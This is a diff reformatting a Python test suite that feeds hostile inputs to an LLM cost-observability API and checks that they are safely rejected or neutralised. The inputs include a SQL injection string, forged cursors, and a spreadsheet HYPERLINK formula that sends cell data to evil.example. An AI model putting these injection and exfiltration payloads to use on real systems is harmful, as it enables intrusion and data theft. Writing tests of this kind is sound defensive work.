@@ -12,7 +12,7 @@ import json
 import os
 import time
 from collections.abc import Iterator
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta
 from decimal import Decimal
 from typing import Any
 from urllib.parse import quote
@@ -30,8 +30,10 @@ from tests.span_rows import span as stored_span
 HOUR_NS = 3600 * 10**9
 # Everything below starts an hour ago (inside the receiver's retention, never in the future).
 T0 = (time.time_ns() // HOUR_NS - 1) * HOUR_NS
-WINDOW = {"from": datetime.fromtimestamp(T0 / 1e9 - 3600, timezone.utc).isoformat(),
-          "to": datetime.fromtimestamp(T0 / 1e9 + 3 * 3600, timezone.utc).isoformat()}
+WINDOW = {
+    "from": datetime.fromtimestamp(T0 / 1e9 - 3600, UTC).isoformat(),
+    "to": datetime.fromtimestamp(T0 / 1e9 + 3 * 3600, UTC).isoformat(),
+}
 
 
 def _cursor(*parts: str) -> str:
@@ -39,12 +41,34 @@ def _cursor(*parts: str) -> str:
 
 
 NASTY = [
-    "NaN", "nan", "inf", "-inf", "Infinity", "1e100", "-1", "0", "0001-01-01", "9999-12-31T23:59:59",
-    "0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "2026-02-30", "x" * 10_000, "日本語\u202e🙂\u0301",
-    "", " ", "\x00", "' OR 1=1 --", "{s:String}", "[" * 300,
-    _cursor("cost", "NaN", "0" * 32), _cursor("cost", "1e100", "0" * 32), _cursor("time", "0001-01-01", "0" * 32),
-    _cursor("time", "9999-12-31T23:59:59", "0" * 32), _cursor("cost", "-1", "0" * 32),
-    base64.urlsafe_b64encode(b"[" * 5000).decode(), "!!!not-base64!!!",
+    "NaN",
+    "nan",
+    "inf",
+    "-inf",
+    "Infinity",
+    "1e100",
+    "-1",
+    "0",
+    "0001-01-01",
+    "9999-12-31T23:59:59",
+    "0001-01-01T00:00:00+01:00",
+    "9999-12-31T23:59:59-01:00",
+    "2026-02-30",
+    "x" * 10_000,
+    "日本語\u202e🙂\u0301",
+    "",
+    " ",
+    "\x00",
+    "' OR 1=1 --",
+    "{s:String}",
+    "[" * 300,
+    _cursor("cost", "NaN", "0" * 32),
+    _cursor("cost", "1e100", "0" * 32),
+    _cursor("time", "0001-01-01", "0" * 32),
+    _cursor("time", "9999-12-31T23:59:59", "0" * 32),
+    _cursor("cost", "-1", "0" * 32),
+    base64.urlsafe_b64encode(b"[" * 5000).decode(),
+    "!!!not-base64!!!",
 ]
 REQUIRED = {"group_by": "model"}  # required parameters get a valid value while another one is attacked
 
@@ -58,10 +82,21 @@ def seeded(server: LiveServer) -> tuple[str, str]:
     """An admin key of a tenant with a stored trace (so routes have rows to work on), and its id."""
     key = server.create_key("api-hostile-seeded", "admin")
     trace, root = os.urandom(16), os.urandom(8)
-    spans = [span("invoke_agent a", {"gen_ai.operation.name": "invoke_agent", "gen_ai.agent.name": "a"},
-                  trace_id=trace, span_id=root, start_ns=T0),
-             span(attrs=chat_attrs("openai", "gpt-4o", 1000, 500, **{"llmobserve.customer.id": "c"}),
-                  trace_id=trace, parent=root, start_ns=T0 + 10**6)]
+    spans = [
+        span(
+            "invoke_agent a",
+            {"gen_ai.operation.name": "invoke_agent", "gen_ai.agent.name": "a"},
+            trace_id=trace,
+            span_id=root,
+            start_ns=T0,
+        ),
+        span(
+            attrs=chat_attrs("openai", "gpt-4o", 1000, 500, **{"llmobserve.customer.id": "c"}),
+            trace_id=trace,
+            parent=root,
+            start_ns=T0 + 10**6,
+        ),
+    ]
     grpc_export(server.grpc_target, key, request(*spans).SerializeToString())
     return key, trace.hex()
 
@@ -84,8 +119,11 @@ def test_no_query_value_gets_a_5xx_on_any_get_route(server: LiveServer, seeded: 
             valid_path = path.replace("{trace_id}", trace_id)
             required = {p["name"]: REQUIRED[p["name"]] for p in parameters if p["in"] == "query" and p.get("required")}
             attempts = [(valid_path, {**required, p["name"]: value}) for p in parameters if p["in"] == "query"]
-            attempts += [(path.replace("{" + p["name"] + "}", quote(value, safe="")), required)
-                         for p in parameters if p["in"] == "path"]
+            attempts += [
+                (path.replace("{" + p["name"] + "}", quote(value, safe="")), required)
+                for p in parameters
+                if p["in"] == "path"
+            ]
             attempts.append((valid_path, {**required, "unknown": value}))
             for url, params in attempts:
                 response = _get(client, key, url, params)
@@ -93,34 +131,51 @@ def test_no_query_value_gets_a_5xx_on_any_get_route(server: LiveServer, seeded: 
                     failures.append(f"{response.status_code} {url[:80]} {list(params)}: {response.text[:200]}")
                 elif response.status_code >= 400:
                     assert set(response.json()) == {"error", "detail"}, response.text[:200]
-        raw = client.get("/api/v1/costs/breakdown?group_by=model&from=%ff%fe&customer=%c3%28",
-                         headers={"authorization": f"Bearer {key}"})
+        raw = client.get(
+            "/api/v1/costs/breakdown?group_by=model&from=%ff%fe&customer=%c3%28",
+            headers={"authorization": f"Bearer {key}"},
+        )
         assert raw.status_code < 500, raw.text
     assert not failures, "\n".join(failures)
 
 
 def _time_routes(client: httpx.Client) -> list[tuple[str, set[str]]]:
-    return [(path, {p["name"] for p in params}) for path, params in _get_routes(client)
-            if {"from", "to", "as_of"} & {p["name"] for p in params}]
+    return [
+        (path, {p["name"] for p in params})
+        for path, params in _get_routes(client)
+        if {"from", "to", "as_of"} & {p["name"] for p in params}
+    ]
 
 
 def test_forged_cursors_and_out_of_range_times_are_400s_naming_the_parameter(
-        server: LiveServer, seeded: tuple[str, str]) -> None:
+    server: LiveServer, seeded: tuple[str, str]
+) -> None:
     key, _ = seeded
     with httpx.Client(base_url=server.http_url, timeout=60) as client:
         routes = _time_routes(client)
-        assert {p for p, _ in routes} >= {"/api/v1/costs/breakdown", "/api/v1/costs/summary",
-                                          "/api/v1/costs/timeseries", "/api/v1/traces", "/api/v1/export/traces",
-                                          "/api/v1/export/costs", "/api/v1/pricing/unpriced"}
+        assert {p for p, _ in routes} >= {
+            "/api/v1/costs/breakdown",
+            "/api/v1/costs/summary",
+            "/api/v1/costs/timeseries",
+            "/api/v1/traces",
+            "/api/v1/export/traces",
+            "/api/v1/export/costs",
+            "/api/v1/pricing/unpriced",
+        }
         for path, names in routes:
             base = {"group_by": "model"} if "group_by" in names else {}
             cases = [("as_of", {"as_of": v}) for v in ("0001-01-01", "9999-12-31T23:59:59", "1970-01-02")]
             if "from" in names:
-                cases = [("from", {"from": "0001-01-01"}), ("from", {"from": "0001-01-01T00:00:00+01:00"}),
-                         ("to", {"to": "9999-12-31T23:59:59"}), ("to", {"to": "0001-01-01"}),
-                         ("from", {"from": "1900-01-01", "to": "2000-01-01"}),
-                         ("to", {"from": "2000-01-01", "to": "2262-01-01"}),
-                         ("from", {"from": "2026-02-01", "to": "2026-01-01"}), ("from", {"from": "x" * 10_000})]
+                cases = [
+                    ("from", {"from": "0001-01-01"}),
+                    ("from", {"from": "0001-01-01T00:00:00+01:00"}),
+                    ("to", {"to": "9999-12-31T23:59:59"}),
+                    ("to", {"to": "0001-01-01"}),
+                    ("from", {"from": "1900-01-01", "to": "2000-01-01"}),
+                    ("to", {"from": "2000-01-01", "to": "2262-01-01"}),
+                    ("from", {"from": "2026-02-01", "to": "2026-01-01"}),
+                    ("from", {"from": "x" * 10_000}),
+                ]
             for name, params in cases:
                 response = _get(client, key, path, {**base, **params})
                 assert response.status_code == 400, (path, params, response.text[:300])
@@ -130,13 +185,21 @@ def test_forged_cursors_and_out_of_range_times_are_400s_naming_the_parameter(
                 wide = _get(client, key, path, {**base, "from": "1970-01-01", "to": "2100-01-01"})
                 assert wide.status_code == 200 or "buckets" in wide.text, (path, wide.text[:300])
 
-        for sort, forged in [("cost", _cursor("cost", "NaN", "0" * 32)), ("cost", _cursor("cost", "1e100", "0" * 32)),
-                             ("cost", _cursor("cost", "inf", "0" * 32)), ("cost", _cursor("cost", "-1", "0" * 32)),
-                             ("cost", _cursor("cost", "abc", "0" * 32)), ("time", _cursor("time", "0001-01-01", "0" * 32)),
-                             ("time", _cursor("time", "9999-12-31T23:59:59", "0" * 32)),
-                             ("time", _cursor("time", "2026-01-01T00:00:00", "not-hex")),
-                             ("time", _cursor("cost", "1", "0" * 32)), ("time", "NaN"), ("time", "-1"),
-                             ("time", "%%%garbage%%%"), ("time", "A" * 5000)]:
+        for sort, forged in [
+            ("cost", _cursor("cost", "NaN", "0" * 32)),
+            ("cost", _cursor("cost", "1e100", "0" * 32)),
+            ("cost", _cursor("cost", "inf", "0" * 32)),
+            ("cost", _cursor("cost", "-1", "0" * 32)),
+            ("cost", _cursor("cost", "abc", "0" * 32)),
+            ("time", _cursor("time", "0001-01-01", "0" * 32)),
+            ("time", _cursor("time", "9999-12-31T23:59:59", "0" * 32)),
+            ("time", _cursor("time", "2026-01-01T00:00:00", "not-hex")),
+            ("time", _cursor("cost", "1", "0" * 32)),
+            ("time", "NaN"),
+            ("time", "-1"),
+            ("time", "%%%garbage%%%"),
+            ("time", "A" * 5000),
+        ]:
             response = _get(client, key, "/api/v1/traces", {"sort": sort, "cursor": forged})
             assert response.status_code == 400, (forged[:60], response.text[:300])
             assert "'cursor'" in response.json()["detail"]
@@ -145,18 +208,23 @@ def test_forged_cursors_and_out_of_range_times_are_400s_naming_the_parameter(
 def test_time_and_price_bodies_out_of_range_are_client_errors(server: LiveServer) -> None:
     admin = {"authorization": f"Bearer {server.create_key('api-hostile-bodies', 'admin')}"}
     price = {"provider": "openai", "model": "m", "input_per_mtok": 1, "output_per_mtok": 1}
-    for body, status, name in [({"from": "0001-01-01", "to": "2026-01-01"}, 400, "'from'"),
-                               ({"from": "2026-01-01", "to": "9999-12-31T23:59:59"}, 400, "'to'"),
-                               ({"from": "0001-01-01T00:00:00+01:00", "to": "2026-01-01"}, 400, "'from'"),
-                               ({"from": "2026-01-02", "to": "2026-01-01"}, 400, "'from'")]:
+    for body, status, name in [
+        ({"from": "0001-01-01", "to": "2026-01-01"}, 400, "'from'"),
+        ({"from": "2026-01-01", "to": "9999-12-31T23:59:59"}, 400, "'to'"),
+        ({"from": "0001-01-01T00:00:00+01:00", "to": "2026-01-01"}, 400, "'from'"),
+        ({"from": "2026-01-02", "to": "2026-01-01"}, 400, "'from'"),
+    ]:
         response = httpx.post(f"{server.http_url}/api/v1/pricing/reprice", json=body, headers=admin, timeout=30)
         assert response.status_code == status and name in response.text, (body, response.text[:300])
-    for change, status, name in [({"effective_from": "0001-01-01T00:00:00+01:00"}, 400, "effective_from"),
-                                 ({"input_per_mtok": 1e30}, 422, "input_per_mtok"),
-                                 ({"output_per_mtok": "1e100"}, 422, "output_per_mtok"),
-                                 ({"model": "m" * 5000}, 422, "model")]:
-        response = httpx.put(f"{server.http_url}/api/v1/pricing/models", json={**price, **change}, headers=admin,
-                             timeout=30)
+    for change, status, name in [
+        ({"effective_from": "0001-01-01T00:00:00+01:00"}, 400, "effective_from"),
+        ({"input_per_mtok": 1e30}, 422, "input_per_mtok"),
+        ({"output_per_mtok": "1e100"}, 422, "output_per_mtok"),
+        ({"model": "m" * 5000}, 422, "model"),
+    ]:
+        response = httpx.put(
+            f"{server.http_url}/api/v1/pricing/models", json={**price, **change}, headers=admin, timeout=30
+        )
         assert response.status_code == status and name in response.text, (change, response.text[:300])
 
 
@@ -167,8 +235,16 @@ def _chain(depth: int) -> tuple[str, list[Any], Decimal]:
     for i, span_id in enumerate(ids):
         attrs = chat_attrs("openai", "gpt-4o", 0, 1) if i % 10 == 0 else {"gen_ai.operation.name": "execute_tool"}
         total += Decimal("0.00001") if i % 10 == 0 else 0
-        spans.append(span(f"step {i}", attrs, trace_id=trace, span_id=span_id, parent=ids[i - 1] if i else b"",
-                          start_ns=T0 + i * 1000))
+        spans.append(
+            span(
+                f"step {i}",
+                attrs,
+                trace_id=trace,
+                span_id=span_id,
+                parent=ids[i - 1] if i else b"",
+                start_ns=T0 + i * 1000,
+            )
+        )
     return trace.hex(), spans, total
 
 
@@ -208,9 +284,11 @@ def test_deep_parent_chain_is_a_capped_tree_with_exact_costs(server: LiveServer,
 
 def test_parent_cycles_and_bad_roots_are_answered(server: LiveServer, tenant_key: str) -> None:
     trace, a, b, c = os.urandom(16), os.urandom(8), os.urandom(8), os.urandom(8)
-    cycle = [span("a", chat_attrs("openai", "gpt-4o", 0, 1), trace_id=trace, span_id=a, parent=c, start_ns=T0),
-             span("b", trace_id=trace, span_id=b, parent=a, start_ns=T0 + 1),
-             span("c", trace_id=trace, span_id=c, parent=b, start_ns=T0 + 2)]
+    cycle = [
+        span("a", chat_attrs("openai", "gpt-4o", 0, 1), trace_id=trace, span_id=a, parent=c, start_ns=T0),
+        span("b", trace_id=trace, span_id=b, parent=a, start_ns=T0 + 1),
+        span("c", trace_id=trace, span_id=c, parent=b, start_ns=T0 + 2),
+    ]
     grpc_export(server.grpc_target, tenant_key, request(*cycle).SerializeToString())
     body = server.get(f"/api/v1/traces/{trace.hex()}", tenant_key).json()
     assert body["spans"] == 3 and body["total_cost_usd"] == 0.00001
@@ -221,10 +299,16 @@ def test_parent_cycles_and_bad_roots_are_answered(server: LiveServer, tenant_key
 
 
 def test_breakdown_and_cost_export_cap_high_cardinality_and_keep_totals_exact(
-        server: LiveServer, tenant_key: str) -> None:
+    server: LiveServer, tenant_key: str
+) -> None:
     customers = 1500
-    spans = [span(attrs=chat_attrs("openai", "gpt-4o", 0, i + 1, **{"llmobserve.customer.id": f"cust-{i:05d}"}),
-                  start_ns=T0 + i * 10**6) for i in range(customers)]
+    spans = [
+        span(
+            attrs=chat_attrs("openai", "gpt-4o", 0, i + 1, **{"llmobserve.customer.id": f"cust-{i:05d}"}),
+            start_ns=T0 + i * 10**6,
+        )
+        for i in range(customers)
+    ]
     grpc_export(server.grpc_target, tenant_key, request(*spans).SerializeToString())
     total = sum(Decimal(i + 1) / 100_000 for i in range(customers))  # output tokens at $10/M
 
@@ -259,20 +343,30 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", 
 
 
 def test_csv_exports_neutralise_formulas_and_json_stays_verbatim(server: LiveServer, tenant_key: str) -> None:
-    spans = [span(text, chat_attrs("openai", "gpt-4o", 0, 1, **{"llmobserve.customer.id": text}),
-                  start_ns=T0 + i) for i, text in enumerate(FORMULAS)]
+    spans = [
+        span(text, chat_attrs("openai", "gpt-4o", 0, 1, **{"llmobserve.customer.id": text}), start_ns=T0 + i)
+        for i, text in enumerate(FORMULAS)
+    ]
     spans.append(span("plain - name", chat_attrs("openai", "gpt-4o", 0, 1), start_ns=T0 + 100))
     grpc_export(server.grpc_target, tenant_key, request(*spans).SerializeToString())
 
-    traces = list(csv.DictReader(io.StringIO(
-        server.get("/api/v1/export/traces", tenant_key, format="csv", **WINDOW).text, newline="")))
+    traces = list(
+        csv.DictReader(
+            io.StringIO(server.get("/api/v1/export/traces", tenant_key, format="csv", **WINDOW).text, newline="")
+        )
+    )
     assert sorted(r["name"] for r in traces) == sorted(["'" + t for t in FORMULAS] + ["plain - name"])
     assert sorted(r["customer"] for r in traces) == sorted(["'" + t for t in FORMULAS] + [""])
     assert all(r["cost_usd"] == "0.000010000000" for r in traces)  # numbers untouched
 
-    costs = list(csv.DictReader(io.StringIO(
-        server.get("/api/v1/export/costs", tenant_key, format="csv", group_by="customer", **WINDOW).text,
-        newline="")))
+    costs = list(
+        csv.DictReader(
+            io.StringIO(
+                server.get("/api/v1/export/costs", tenant_key, format="csv", group_by="customer", **WINDOW).text,
+                newline="",
+            )
+        )
+    )
     assert sorted(r["key"] for r in costs) == sorted(["'" + t for t in FORMULAS] + ["untracked"])
 
     as_json = server.get("/api/v1/export/traces", tenant_key, format="json", **WINDOW).json()
@@ -306,14 +400,22 @@ class _SliceCountingStore(Store):
 def test_reprice_reads_bounded_slices_and_stays_exact(tmp_path: Any) -> None:
     store = _SliceCountingStore.open(StoreConfig(tmp_path / "data"))
     try:
-        t0 = datetime(2026, 3, 2, tzinfo=timezone.utc)
-        attrs = [("gen_ai.operation.name", "chat"), ("gen_ai.provider.name", "openai"),
-                 ("gen_ai.request.model", "gpt-4o"), ("gen_ai.usage.input_tokens", "0"),
-                 ("gen_ai.usage.output_tokens", "100")]  # $0.001 at $10/M output
-        busy = [stored_span(f"{i:04x}", f"{i:04x}", t0 + timedelta(seconds=i), "0.5", span_attributes=attrs)
-                for i in range(23)]  # one hour holding several slices
-        quiet = [stored_span("f0", f"{i:04x}", t0 + timedelta(hours=5, seconds=i), "0.5", span_attributes=attrs)
-                 for i in range(7)]
+        t0 = datetime(2026, 3, 2, tzinfo=UTC)
+        attrs = [
+            ("gen_ai.operation.name", "chat"),
+            ("gen_ai.provider.name", "openai"),
+            ("gen_ai.request.model", "gpt-4o"),
+            ("gen_ai.usage.input_tokens", "0"),
+            ("gen_ai.usage.output_tokens", "100"),
+        ]  # $0.001 at $10/M output
+        busy = [
+            stored_span(f"{i:04x}", f"{i:04x}", t0 + timedelta(seconds=i), "0.5", span_attributes=attrs)
+            for i in range(23)
+        ]  # one hour holding several slices
+        quiet = [
+            stored_span("f0", f"{i:04x}", t0 + timedelta(hours=5, seconds=i), "0.5", span_attributes=attrs)
+            for i in range(7)
+        ]
         store.insert_spans(spans_table(busy + quiet))
 
         result = reprice(store, "acme", t0 - timedelta(days=1), t0 + timedelta(days=1), Pricer(), None, slice_rows=5)
